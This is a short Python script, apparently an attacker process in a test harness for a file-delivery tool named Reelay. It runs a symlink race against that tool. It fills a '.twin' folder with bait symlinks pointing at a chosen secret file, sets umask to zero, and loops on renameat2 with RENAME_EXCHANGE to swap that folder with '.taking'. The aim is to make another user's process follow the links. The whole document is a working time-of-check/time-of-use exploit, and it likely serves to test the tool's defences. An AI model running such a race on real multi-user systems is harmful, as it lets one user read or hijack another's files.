"""Another user of the machine, in an inbox: exchanges .taking and a twin full of links until it is ended.

Arguments: the node's folder in .taking, the file that the links lead to, how many bait-N.txt there are.
"""
import ctypes
import os
import sys

AT_FDCWD = -100
RENAME_EXCHANGE = 2
MAX_TWINS = 100

node, secret, files = sys.argv[1], sys.argv[2], int(sys.argv[3])
libc = ctypes.CDLL(None)


def make_twin():
    os.makedirs(".twin/" + node, exist_ok=True)
    for file in range(files):
        try:
            os.symlink(secret, f".twin/{node}/bait-{file}.txt")
        except FileExistsError:
            pass


os.umask(0)
twins = 0
print("attacking", flush=True)
while True:
    if libc.renameat2(AT_FDCWD, b".taking", AT_FDCWD, b".twin", RENAME_EXCHANGE) != 0 and twins < MAX_TWINS:
        # Reelay has set the twin aside.
        try:
            make_twin()
            twins += 1
        except OSError:
            pass
